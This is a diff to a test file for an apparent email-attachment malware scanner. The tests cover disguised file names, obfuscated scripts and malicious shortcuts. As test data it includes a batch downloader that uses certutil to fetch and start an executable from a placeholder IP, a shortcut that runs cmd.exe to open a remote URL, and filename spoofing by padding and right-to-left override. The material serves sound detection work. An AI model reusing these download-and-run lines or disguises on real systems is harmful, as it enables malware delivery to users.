@@ -5,10 +5,10 @@ from __future__ import annotations
 import pytest
 
 from coinguard.analyzers.filetype import FileTypeAnalyzer, extensions, last_extension, risky_url_target
-from coinguard.findings import Finding, Item
+from coinguard.findings import Finding, Item, Verdict
 from coinguard.sniff import sniff
 
-from helpers import make_context, read_corpus_sample
+from helpers import make_context, make_message, read_corpus_sample, zip_bytes
 
 SCORES = {c.code: c.score for c in FileTypeAnalyzer.codes}
 PE = b"MZ" + b"\x00" * 0x3A + b"\x40\x00\x00\x00" + b"PE\x00\x00" + b"\x00" * 200
@@ -45,6 +45,7 @@ STRENGTHS = {c.code: c.strength for c in FileTypeAnalyzer.codes}
         (b'Set o = CreateObject("Scripting.FileSystemObject")\r\n', "Rechnung.pdf.vbs", "file.double_extension.runs"),
         # the disguise without content of that kind stays strong (a shortcut has its own analyzer; text named
         # .js is graded by file.risky_extension; a PE under a script extension does not run)
+        # (an unparsable shortcut: what it does is unknown)
         (b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 80, "invoice.docx.lnk", "file.double_extension"),
         (b"hello world, nothing to see here\n", "notes.pdf.js", "file.double_extension"),
         (PE, "invoice.pdf.js", "file.double_extension"),
@@ -167,7 +168,7 @@ def test_corpus_scripts_and_shortcuts(corpus_dir: object, path: str, expected: s
     [
         ("benign/attachments/malware-samples/testing-benign-google.url", {"file.url_shortcut"}),
         # a .bat is a risky type by policy: file.script alone (5) tags it, nothing more
-        ("benign/attachments/strelka/test.bat", {"file.script"}),
+        ("benign/attachments/strelka/test.bat", {"file.script"}),  # weak (3): no behaviour
         ("benign/attachments/strelka/test.pdf", set()),
         ("benign/attachments/pyhwpscan/sample.hwp", set()),
     ],
@@ -175,7 +176,7 @@ def test_corpus_scripts_and_shortcuts(corpus_dir: object, path: str, expected: s
 def test_corpus_benign(corpus_dir: object, path: str, expected: set[str]) -> None:
     found = codes(read_corpus_sample(path), path.rsplit("/", 1)[-1])
     assert found == expected
-    assert sum(SCORES[c] for c in found) <= 5
+    assert sum(SCORES[c] for c in found) < 5
 
 
 # -- issue 11: de-obfuscated behaviour, bare eval, XSL and macOS shell scripts -------------------
@@ -210,3 +211,90 @@ def test_macos_shell_scripts() -> None:
 def test_script_named_txt_is_weak_evidence() -> None:
     found = run(b'Set o = CreateObject("WScript.Shell")\no.Run "calc"\n', "notes.txt")
     assert found and all(f.strength == "weak" for f in found if f.code.startswith("file.script"))
+
+
+# -- issue 11: risky types graded by behaviour ---------------------------------------------------
+STUB = b"a 26-byte stub, no program"  # not even an MZ header: nothing in it runs, only its name deceives
+assert len(STUB) == 26
+
+
+def _scan(raw: bytes) -> Verdict:
+    from coinguard.config import parse_config
+    from coinguard.scan import ScanContext, scan_message
+
+    cfg = parse_config('[dkim]\nnameservers = ["127.0.0.1"]\ndns_port = 9\ndns_timeout_s = 0.05\n')
+    return scan_message(raw, ScanContext(config=cfg))
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["invoice.pdf" + " " * 40 + ".exe", "invoice.doc" + "_" * 30 + ".scr", "receipt" + "\u3000" * 12 + ".js"],
+)
+def test_long_padding_before_a_running_extension_is_the_evasion(name: str) -> None:
+    found = run(STUB, name)
+    assert "file.double_extension.runs" in {f.code for f in found}
+    assert STRENGTHS["file.double_extension.runs"] == "conclusive"
+    # short padding over content that cannot run stays strong
+    assert "file.double_extension" in codes(STUB, "invoice.pdf   .exe")
+
+
+def test_padded_stub_in_a_zip_is_quarantined() -> None:
+    msg = make_message(attachments=[("docs.zip", zip_bytes({"invoice.pdf" + " " * 40 + ".exe": STUB}))])
+    v = _scan(msg)
+    assert v.verdict == "malicious" and v.action == "quarantine", v.basis
+    assert "conclusive: file.double_extension.runs" in v.basis
+
+
+def test_batch_scripts_graded_by_behaviour() -> None:
+    downloader = (b"@echo off\r\ncertutil -urlcache -split -f http://203.0.113.8/a.txt %TEMP%\\a.exe\r\n"
+                  b"start %TEMP%\\a.exe\r\n")
+    found = run(downloader, "update.bat")
+    assert {f.code for f in found} == {"file.script", "file.script_behavior"}
+    v = _scan(make_message(attachments=[("update.bat", downloader)]))
+    assert v.verdict == "malicious" and "file.script_behavior" in v.basis
+    helper = (b"@echo off\r\nSETLOCAL\r\nIF \"%1\" == \"\" GOTO help\r\n\"C:\\Tools\\flash.exe\" -c usb %*\r\n"
+              b"GOTO exit\r\n:help\r\necho Usage: flash [part]\r\n:exit\r\n")
+    found = run(helper, "flash.bat")
+    assert [(f.code, f.score, f.strength) for f in found] == [("file.script", None, "")]
+    assert SCORES["file.script"] < 5 and STRENGTHS["file.script"] is None  # weak by its score
+    v = _scan(make_message(attachments=[("flash.bat", helper)]))
+    assert v.verdict == "clean", v.findings
+
+
+def test_admin_can_still_block_every_script_and_shortcut() -> None:
+    from coinguard.config import parse_config
+    from coinguard.scan import ScanContext, scan_message
+
+    helper = b"@echo off\r\necho hello\r\nC:\\Tools\\flash.exe -c usb\r\n"
+    cfg = parse_config('[dkim]\nnameservers = ["127.0.0.1"]\ndns_port = 9\ndns_timeout_s = 0.05\n'
+                       '[policy.scores]\n"file.script" = 15\n')
+    v = scan_message(make_message(attachments=[("flash.bat", helper)]), ScanContext(config=cfg))
+    assert v.verdict == "malicious" and v.action == "quarantine", v.basis
+
+
+def test_hidden_code_keeps_the_script_strong() -> None:
+    codes_list = b",".join(b"%d" % c for c in b"abcdefghijklmnopqrstuvwxyz")
+    js = b"var a = String.fromCharCode(" + codes_list + b");\neval(a);\n"
+    found = {f.code: f for f in run(js, "invoice.js")}
+    assert set(found) == {"file.script", "file.script_obfuscated"}
+    assert found["file.script"].strength == "strong"
+
+
+def test_bidi_control_graded_by_the_real_extension() -> None:
+    strong = run(STUB, "photo\u202egpj.exe")
+    assert [(f.code, f.strength) for f in strong if f.code == "file.rtlo"] == [("file.rtlo", "")]
+    assert STRENGTHS["file.rtlo"] == "conclusive"
+    # an Arabic/Hebrew name with a right-to-left mark over a harmless extension
+    weak = [f for f in run(b"%PDF-1.4\n", "\u05d3\u05d5\u05d7\u200f.pdf") if f.code == "file.rtlo"]
+    assert [(f.score, f.strength) for f in weak] == [(2.0, "weak")]
+
+
+def test_shortcut_double_extension_graded_by_what_it_opens() -> None:
+    from analyzers.test_lnk import build_lnk
+
+    runs = build_lnk(r"C:\Windows\System32\cmd.exe", args="/c start http://203.0.113.2/x")
+    assert "file.double_extension.runs" in codes(runs, "invoice.pdf.lnk")
+    to_document = build_lnk(r"C:\Users\kim\Documents\sample.hwp")
+    assert codes(to_document, "sample.hwp.lnk") == set()  # it opens the .hwp its name shows
+    # forty blanks before .lnk are the evasion even over a harmless target
+    assert "file.double_extension.runs" in codes(to_document, "sample.hwp" + " " * 40 + ".lnk")
